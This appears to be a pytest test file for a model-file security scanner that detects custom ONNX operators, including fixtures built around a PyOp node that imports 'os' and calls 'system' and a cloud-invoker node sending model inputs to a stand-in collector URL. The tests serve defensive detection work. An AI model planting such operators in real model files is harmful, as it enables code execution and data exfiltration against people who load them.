"""ONNX operators outside ONNX and onnxruntime's own domains (AISEC-ONNX002/003).

Models are built with the onnx package's own serializer (and one by torch's exporter), so
the field numbers the scanner reads are checked against the real format.
"""

from __future__ import annotations

import io
import random
import warnings
from collections.abc import Callable
from pathlib import Path
from typing import Any

import onnx
import pytest
import torch
from onnx import TensorProto, helper
from report_ids import rule_ids

from aisec_sdk.posture import scan_file
from aisec_sdk.posture.onnx_scan import scan_onnx

Write = Callable[[str, bytes | str], Path]

_X = helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])
_Y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])


def _model(
    nodes: list[onnx.NodeProto],
    imports: dict[str, int] | None = None,
    functions: list[onnx.FunctionProto] | None = None,
) -> bytes:
    graph = helper.make_graph(nodes, "g", [_X], [_Y])
    opsets = [helper.make_opsetid(d, v) for d, v in {"": 17, **(imports or {})}.items()]
    model = helper.make_model(graph, opset_imports=opsets, functions=functions or [])
    return model.SerializeToString()


def _branch(node: onnx.NodeProto) -> onnx.GraphProto:
    return helper.make_graph([node], "branch", [], [_Y])


def _torch_export(module: torch.nn.Module, **kwargs: Any) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.onnx.export(module, (torch.randn(1, 3, 8, 8),), out, dynamo=False, **kwargs)
    return out.getvalue()


def test_exported_and_builtin_models_are_clean(write: Write) -> None:
    """Standard ONNX, ONNX-ML, and what ships inside onnxruntime (contrib ops, the NCHWc
    layout ops of an optimised model), plus a model-local function, need no library."""
    conv = torch.nn.Sequential(torch.nn.Conv2d(3, 4, 3), torch.nn.ReLU(), torch.nn.Flatten())
    builtin = [
        helper.make_node("Gelu", ["x"], ["a"], domain="com.microsoft"),
        helper.make_node("ReorderInput", ["a"], ["b"], domain="com.microsoft.nchwc"),
        helper.make_node("Normalizer", ["b"], ["c"], domain="ai.onnx.ml", norm="L2"),
        helper.make_node("Relu", ["c"], ["d"], domain="ai.onnx"),
        helper.make_node("Scale2", ["d"], ["y"], domain="local.fns"),
    ]
    body = [helper.make_node("Add", ["i", "i"], ["o"])]
    local = helper.make_function(
        "local.fns", "Scale2", ["i"], ["o"], body, [helper.make_opsetid("", 17)]
    )
    imports = {"com.microsoft": 1, "com.microsoft.nchwc": 1, "ai.onnx.ml": 3, "local.fns": 1}
    files = {
        "conv.onnx": _torch_export(conv),
        "builtin.onnx": _model(builtin, imports, [local]),
    }
    for name, data in files.items():
        assert scan_file(write(name, data)).findings == [], name


def test_torch_export_with_a_custom_symbolic_is_found(write: Write) -> None:
    """torch.onnx exports a custom op into the domain its symbolic names: onnxruntime runs
    that model only after register_custom_ops_library loads a native library."""

    class Scrambled(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.relu(torch.ops.aisec_test.scramble(x))

    @torch.library.custom_op("aisec_test::scramble", mutates_args=())  # type: ignore[misc]
    def scramble(x: torch.Tensor) -> torch.Tensor:
        return x.flip(0)

    def symbolic(g: Any, x: Any) -> Any:
        return g.op("acme.ops::Scramble", x).setType(x.type())

    torch.onnx.register_custom_op_symbolic("aisec_test::scramble", symbolic, 17)
    try:
        data = _torch_export(Scrambled(), opset_version=17, custom_opsets={"acme.ops": 1})
    finally:
        torch.onnx.unregister_custom_op_symbolic("aisec_test::scramble", 17)
    report = scan_file(write("custom.onnx", data))
    assert rule_ids(report) == [("AISEC-ONNX002", "medium")]
    assert "'acme.ops'" in report.findings[0].message
    assert "Scramble" in report.findings[0].message
    assert report.findings[0].details["domain"] == "acme.ops"


def test_custom_ops_are_found_wherever_nodes_sit(write: Write) -> None:
    """Top-level graph, If branches (GRAPH attributes), Scan/Loop bodies, a GRAPHS
    attribute, and the body of a model-local function."""
    evil = helper.make_node("Payload", [], ["y"], domain="acme")
    if_node = helper.make_node(
        "If", ["c"], ["y"], then_branch=_branch(evil), else_branch=_branch(evil)
    )
    loop = helper.make_node("Loop", ["n", "c"], ["y"], body=_branch(evil))
    graphs = helper.make_node("Sequence", ["x"], ["y"], domain="", branches=[_branch(evil)])
    body = [helper.make_node("Payload", ["i"], ["o"], domain="acme")]
    function = helper.make_function(
        "local", "Wrap", ["i"], ["o"], body, [helper.make_opsetid("acme", 1)]
    )
    call = helper.make_node("Wrap", ["x"], ["y"], domain="local")
    cases = {
        "top.onnx": _model([evil]),
        "if.onnx": _model([if_node]),
        "loop.onnx": _model([loop]),
        "graphs.onnx": _model([graphs]),
        "function.onnx": _model([call], {"local": 1}, [function]),
    }
    for name, data in cases.items():
        report = scan_file(write(name, data))
        assert rule_ids(report) == [("AISEC-ONNX002", "medium")], name
        assert "'acme'" in report.findings[0].message, name


def test_a_local_function_covers_only_its_own_name(write: Write) -> None:
    """A node of a local function's domain whose name is no function is a custom op."""
    body = [helper.make_node("Relu", ["i"], ["o"])]
    function = helper.make_function(
        "mine", "Safe", ["i"], ["o"], body, [helper.make_opsetid("", 17)]
    )
    nodes = [
        helper.make_node("Safe", ["x"], ["a"], domain="mine"),
        helper.make_node("Unsafe", ["a"], ["y"], domain="mine"),
    ]
    report = scan_file(write("m.onnx", _model(nodes, {"mine": 1}, [function])))
    assert rule_ids(report) == [("AISEC-ONNX002", "medium")]
    assert "Unsafe" in report.findings[0].message and "Safe," not in report.findings[0].message


def test_onnxruntime_extensions_domains(write: Write) -> None:
    """ai.onnx.contrib and com.microsoft.extensions are onnxruntime-extensions' library."""
    for domain in ("ai.onnx.contrib", "com.microsoft.extensions"):
        node = helper.make_node("GPT2Tokenizer", ["x"], ["y"], domain=domain)
        report = scan_file(write("tok.onnx", _model([node], {domain: 1})))
        assert rule_ids(report) == [("AISEC-ONNX002", "medium")], domain
        assert "onnxruntime-extensions" in report.findings[0].message


def test_an_imported_custom_opset_with_no_node_is_a_low_note(write: Write) -> None:
    report = scan_file(
        write("decl.onnx", _model([helper.make_node("Relu", ["x"], ["y"])], {"acme": 1}))
    )
    assert rule_ids(report) == [("AISEC-ONNX002", "low")]


def test_operators_that_import_python_or_call_a_url(write: Write) -> None:
    """onnxruntime's PyOp imports the module the node names; onnxruntime-extensions'
    cloud invokers send the model's inputs to the URL the node names."""
    pyop = helper.make_node(
        "PyOp",
        ["x"],
        ["y"],
        domain="pyops",
        module="os",
        class_name="system",
        input_types=[TensorProto.FLOAT],
        output_types=[TensorProto.FLOAT],
    )
    invoker = helper.make_node(
        "AzureTextToText",
        ["x"],
        ["y"],
        domain="com.microsoft.extensions",
        model_uri="https://collector.example/v1",
    )
    for name, node, needle in (
        ("pyop.onnx", pyop, "'os'"),
        ("invoker.onnx", invoker, "https://collector.example/v1"),
    ):
        report = scan_file(write(name, _model([node], {node.domain: 1})))
        assert ("AISEC-ONNX003", "high") in rule_ids(report), name
        high = next(f for f in report.findings if f.rule_id == "AISEC-ONNX003")
        assert needle in high.message, name


@pytest.mark.parametrize("domain", ["", "com.microsoft", "ai.onnx"])
def test_a_python_op_in_a_builtin_domain_is_found(write: Write, domain: str) -> None:
    """onnxruntime's language interop makes a PyOp of any domain, the default one too."""
    pyop = helper.make_node(
        "PyOp", ["x"], ["y"], domain=domain, module="os", class_name="system",
        input_types=[TensorProto.FLOAT], output_types=[TensorProto.FLOAT],
    )  # fmt: skip
    report = scan_file(write("pyop.onnx", _model([pyop], {domain: 1} if domain else {})))
    assert rule_ids(report) == [("AISEC-ONNX003", "high")]  # no custom domain to report
    assert "'os'" in report.findings[0].message
    relu = helper.make_node("Relu", ["x"], ["y"], module="os")  # only PyOp imports it
    assert scan_file(write("relu.onnx", _model([relu]))).findings == []


def test_truncated_and_mutated_models_never_crash(tmp_path: Path) -> None:
    """What was read before the damage is still reported, with a malformed-file note."""
    nodes = [helper.make_node("Payload", ["x"], ["a"], domain="acme")]
    nodes += [helper.make_node("Relu", ["a"], ["a"]) for _ in range(20)]
    data = _model(nodes, {"acme": 1})
    cut = data[: len(data) - 30]
    found = scan_onnx(io.BytesIO(cut), "cut.onnx", len(cut))
    rules = {f.rule_id for f in found}
    assert rules == {"AISEC-ONNX002", "AISEC-MOD001"}
    rng = random.Random(7)
    for _ in range(300):
        mutated = bytearray(data)
        for _ in range(rng.randint(1, 8)):
            mutated[rng.randrange(len(mutated))] = rng.randrange(256)
        blob = bytes(mutated)
        for finding in scan_onnx(io.BytesIO(blob), "m.onnx", len(blob)):
            assert finding.rule_id in {
                "AISEC-ONNX001",
                "AISEC-ONNX002",
                "AISEC-ONNX003",
                "AISEC-MOD001",
            }


@pytest.mark.parametrize("count", [40, 2000])
def test_many_custom_domains_are_capped(count: int) -> None:
    """A hostile model with thousands of domains gets a bounded number of findings."""
    nodes = [helper.make_node("Op", ["x"], [f"o{i}"], domain=f"d{i}") for i in range(count)]
    data = _model(nodes)
    found = scan_onnx(io.BytesIO(data), "many.onnx", len(data))
    assert 1 <= len(found) <= 33
    assert any(f"{count - 32} more" in f.message for f in found)
